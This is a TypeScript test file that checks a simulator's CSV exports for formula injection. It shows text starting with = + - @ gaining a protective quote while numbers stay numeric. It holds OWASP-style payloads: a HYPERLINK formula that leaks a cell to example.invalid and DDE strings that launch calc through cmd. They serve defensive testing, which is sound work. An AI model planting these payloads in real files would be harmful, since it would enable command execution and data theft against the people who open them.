/**
 * CSV injection: every CSV file cowsim writes (a run's six files, sweep.csv, plan.csv, store.csv)
 * shows a text cell starting with = + - @ (or a tab or CR) as text, with a leading single quote,
 * and leaves numbers, negative ones included, numeric.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { gateCommand } from '../../reports/commands/gate-command.js';
import { sweepCommand } from '../../reports/commands/sweep-command.js';
import { csvRowsText, neutraliseCsvCell, neutraliseCsvText } from '../../reports/csv-cells.js';
import { planCsv, storeCsv } from '../../reports/plan/report.js';
import type { PlanResult } from '../../reports/plan/plan.js';
import { buildRunCsvFiles, buildSummary } from '../../reports/run/index.js';
import { makeRunResult } from './run/fixture.js';
import { csvObjects, parseCsv } from './run/parse-csv.js';
import { bufferIo, temporaryDirectory, tinyScenario, writeScenarioFile } from './sweep/fixtures.js';

// What a spreadsheet would run: the attack strings of the OWASP CSV injection page and the issue.
const FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

/** True when no cell of a CSV text starts a formula: a neutralised cell starts with a quote; a cell starting with - is a plain number. */
function everyCellInert(text: string): boolean {
  const number = /^-(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;
  return parseCsv(text).every((record) => record.every((cell) => !/^[=+@\t\r]/.test(cell) && (!cell.startsWith('-') || number.test(cell))));
}

describe('CSV cells', () => {
  it('prefix a single quote to text starting with = + - @ tab or CR', () => {
    for (const formula of FORMULAS) expect(neutraliseCsvText(formula)).toBe(`'${formula}`);
    expect(neutraliseCsvText('-cmd')).toBe("'-cmd");
    expect(neutraliseCsvText('@')).toBe("'@");
  });

  it('leave other text alone, and numbers written as text numeric', () => {
    for (const text of ['', 'oltp', 'a=b', "'quoted", ' =1+1', 'latency.write.p99', '0', '12.5']) expect(neutraliseCsvText(text)).toBe(text);
    for (const number of ['-5', '-0.25', '-1.5e-7', '+3', '-.5', '1e+21']) expect(neutraliseCsvText(number)).toBe(number);
    // Almost a number is still a formula.
    for (const text of ['-5+1', '-1e', '--5', '-5 ', '-0x10']) expect(neutraliseCsvText(text)).toBe(`'${text}`);
  });

  it('change only text: numbers, booleans and empty cells pass as they are', () => {
    expect(neutraliseCsvCell(-5)).toBe(-5);
    expect(neutraliseCsvCell(false)).toBe(false);
    expect(neutraliseCsvCell(undefined)).toBeUndefined();
    expect(neutraliseCsvCell(null)).toBeNull();
  });

  it('are written with RFC 4180 quoting after the prefix; negative numbers stay bare numbers', () => {
    const text = csvRowsText([
      ['name', 'value', 'ok'],
      ['=HYPERLINK("http://x","y")', -5, true],
      ['-cmd', '-1.25', false],
      ['plain', 0, undefined],
    ]);
    expect(text).toBe(`name,value,ok\n"'=HYPERLINK(""http://x"",""y"")",-5,true\n'-cmd,-1.25,false\nplain,0,\n`);
    expect(everyCellInert(text)).toBe(true);
  });
});

describe('every CSV writer neutralises text cells', () => {
  it('a run: workload and scenario names in summary.csv and latency.csv', () => {
    const result = makeRunResult();
    result.scenario = { ...result.scenario, name: '-scenario' };
    result.workloads[0]!.name = '-2+3';
    const summary = buildSummary(result);
    const files = buildRunCsvFiles(result, summary);
    for (const [name, text] of Object.entries(files)) expect(everyCellInert(text), name).toBe(true);
    expect(csvObjects(files['summary.csv']).rows[0]).toEqual({ figure: 'scenario', value: "'-scenario", unit: '' });
    const latency = csvObjects(files['latency.csv']).rows;
    expect(latency.some((row) => row.workload === "'-2+3")).toBe(true);
    expect(latency.some((row) => row.workload === '-2+3')).toBe(false);
    // Numbers are untouched: the figures still read back as the summary's numbers.
    expect(csvObjects(files['summary.csv']).rows.find((row) => row.figure === 'latency.write.p99')!.value).toBe(String(summary.latency.write.p99));
  });

  it('sweep.csv: swept text values from --set (a crafted description); gate still matches the rows', async () => {
    const directory = temporaryDirectory();
    const scenario = writeScenarioFile(directory, tinyScenario);
    const io = bufferIo();
    const out = join(directory, 'out');
    const { exitCode } = await sweepCommand({ scenario, set: ['description==HYPERLINK("http://example.invalid"),@SUM(1),plain'], jobs: 1, out, quiet: true }, io);
    expect(exitCode).toBe(0);
    const text = readFileSync(join(out, 'sweep.csv'), 'utf8');
    expect(everyCellInert(text)).toBe(true);
    const { rows } = csvObjects(text);
    expect(rows.map((row) => row.description)).toEqual(["'=HYPERLINK(\"http://example.invalid\")", "'@SUM(1)", 'plain']);
    // Figures are plain numbers.
    for (const row of rows) expect(Number(row['iops.mean'])).toBeGreaterThan(0);
    // gate reads the neutralised values the same way from sweep.csv and from sweep.json.
    const gate = await gateCommand({ baseline: join(out, 'sweep.csv'), current: join(out, 'sweep.json'), rules: ['iops.mean>=-1%'], quiet: true }, bufferIo());
    expect(gate.exitCode).toBe(0);
  });

  it('plan.csv and store.csv: the workload name, and negative numbers', () => {
    const plan = {
      workload: '-db',
      knob: 'rate',
      slos: [{ text: 'latency.write.p99<=5ms', figure: 'latency.write.p99', operator: '<=', limit: 5000, time: true }],
      runs: [{ run: 1, load: 100, figures: { 'latency.write.p99<=5ms': -1.5 }, pass: true, verdict: 'pass', purpose: 'search' }],
      storeTimeline: [{ atSeconds: 0.5, storeChunksUsed: 3 }],
      chunkSizeBytes: 65536,
    } as unknown as PlanResult;
    const planText = planCsv(plan);
    expect(everyCellInert(planText)).toBe(true);
    const row = csvObjects(planText).rows[0]!;
    expect(row.workload).toBe("'-db");
    expect(row['latency.write.p99']).toBe('-1.5');
    expect(storeCsv(plan)).toBe('atSeconds,storeChunksUsed,storeBytes\n0.5,3,196608\n');
  });
});
